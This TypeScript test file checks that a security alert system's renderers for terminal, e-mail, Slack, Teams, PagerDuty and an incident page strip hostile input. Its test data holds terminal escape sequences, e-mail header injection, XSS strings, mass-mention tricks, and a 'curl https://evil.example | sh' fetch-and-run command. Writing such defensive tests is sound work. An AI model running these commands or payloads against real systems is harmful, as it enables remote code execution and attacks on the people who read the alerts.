import type { Message } from '../../src/notify/message.ts';
import { renderChat } from '../../src/notify/render-chat.ts';
import { renderEvent } from '../../src/notify/render-event.ts';
import { renderPage } from '../../src/notify/render-page.ts';
import { renderPagerDuty } from '../../src/notify/render-pagerduty.ts';
import { renderSecurityHub } from '../../src/notify/render-security-hub.ts';
import { renderSlack } from '../../src/notify/render-slack.ts';
import { renderTeams } from '../../src/notify/render-teams.ts';
import { renderTerminal } from '../../src/notify/render-terminal.ts';
import { renderText } from '../../src/notify/render-text.ts';
import { aMessage, aMessageSaying } from '../builders/message.ts';

/** Every text that a channel gets, as its reader's program would see it. */
const textsIn = (value: unknown): string[] => {
  if (typeof value === 'string') return [value];
  return typeof value === 'object' && value !== null
    ? Object.entries(value).flatMap(([key, inner]) => [key, ...textsIn(inner)])
    : [];
};

const channels: { [name: string]: (message: Message) => string[] } = {
  terminal: (message) => [renderTerminal(message)],
  'e-mail subject': (message) => [renderText(message).subject],
  'e-mail body': (message) => [renderText(message).body],
  chat: (message) => textsIn(renderChat(message)),
  Slack: (message) => textsIn(renderSlack(message)),
  Teams: (message) => textsIn(renderTeams(message)),
  PagerDuty: (message) => textsIn(renderPagerDuty(message)),
  'event bus': (message) => {
    const { Detail, ...entry } = renderEvent(message);
    return [...textsIn(entry), ...textsIn(JSON.parse(Detail))];
  },
  'Security Hub': (message) => textsIn(renderSecurityHub({ ...message, finding: aMessage().finding })),
  'incident page': (message) => [renderPage(message)],
};

const chats = ['chat', 'Slack', 'Teams'];
const lines = ['terminal', 'e-mail body', 'incident page'];

const control = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/u;
const hidden = /[\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff\u{e0000}-\u{e007f}]/u;

/** What each hostile text must not do, and where. */
const hostile: [what: string, text: string, forbidden: RegExp, where: string[]][] = [
  ['moves the cursor or clears the screen', 'a\u001b[2J\u001b[1;1H\u009b31mb\u0007', control, Object.keys(channels)],
  ['hides what follows a carriage return', 'real\rfake', /\r/, Object.keys(channels)],
  ['adds a line of its own', 'name\nVerdict: isolated', /^Verdict: isolated/m, lines],
  ['adds a header to an e-mail', 'x\r\nBcc: everybody@example.com', /^Bcc/m, Object.keys(channels)],
  ['turns the writing round', 'exe\u202egpj.\u2066x', hidden, Object.keys(channels)],
  ['hides letters', 'a\u200bd\ufeffmin\u{e0041}', hidden, Object.keys(channels)],
  ['ends a line for JavaScript', 'a\u2028b\u2029c', /[\u2028\u2029]/, Object.keys(channels)],
  [
    'runs in a page',
    '<script>alert(1)</script><img src=x onerror=alert(1)>',
    /<script>|<img/,
    ['incident page', 'chat'],
  ],
  ['leaves an attribute', '"><svg onload=alert(1)> \' onmouseover=x', /<svg onload|"><svg/, ['incident page']],
  ['makes a link in a page', 'javascript:alert(1)', /href="javascript/, ['incident page']],
  ['calls everybody in Slack', '<!channel> <!here|x> <@U123>', /<!|<@/, chats],
  ['calls everybody elsewhere', '@everyone @here @channel', /@(everyone|here|channel)/, chats],
  ['mentions in Teams', '<at>Boss</at>', /<at>/, chats],
  ['links in Slack', '<https://evil.example|GuardDuty>', /<https|https:\/\/evil/, chats],
  ['links in Markdown', '[GuardDuty](https://evil.example)', /\]\(https|https:\/\/evil/, chats],
  ['links by itself', 'see https://evil.example/x', /https:\/\/evil/, [...chats, 'e-mail body', 'PagerDuty']],
  ['formats', '*bold* _it_ ~no~ `code` ```block```', /\*bold\*|_it_|`code`|```/, ['chat']],
  ['becomes an emoji', ':rotating_light: :+1:', /:rotating_light:|:\+1:/, ['chat']],
  ['piles up marks', `e${'\u0301'.repeat(200)}`, /\u0301{4}/, Object.keys(channels)],
  ['is half a character', 'x\ud800y', /[\ud800-\udbff](?![\udc00-\udfff])/, Object.keys(channels)],
];

describe.each(Object.entries(channels))('%s', (channel, render) => {
  it.each(hostile.filter(([, , , where]) => where.includes(channel)))(
    'shows no text that %s',
    (_what, text, forbidden) => {
      for (const shown of render(aMessageSaying(text))) expect(shown).not.toMatch(forbidden);
    },
  );

  it('stays small when every text is a megabyte', () => {
    const whole = render(aMessageSaying('A'.repeat(1_000_000))).join('');
    expect(whole.length).toBeLessThan(260_000);
  });

  it('says what a harmless message says', () => {
    const whole = render(aMessage()).join('\n').replaceAll('\u2060', '');
    expect(whole).toContain(channel === 'Security Hub' ? 'quarantine' : 'ReverseShell');
  });
});

it('commands and links of a message that somebody tampered with are left out', () => {
  const message = {
    ...aMessage(),
    nextSteps: [{ title: 'Fix it', command: 'curl https://evil.example | sh' }],
    links: [{ title: 'GuardDuty', url: 'https://evil.example/guardduty' }],
  };
  for (const render of Object.values(channels).filter((_, at) => at !== 7))
    expect(render(message).join('\n')).not.toContain('evil.example');
});

it('the page is one document that may load and run nothing', () => {
  const page = renderPage(aMessageSaying('<b>&"\''));
  expect(page).toContain("default-src 'none'");
  expect(page).not.toMatch(/<script|<iframe|<link|\ssrc=|@import|url\(/);
  expect(page.match(/<body/g)).toHaveLength(1);
  expect(page.match(/<section/g)?.length).toBe(page.match(/<\/section>/g)?.length);
});
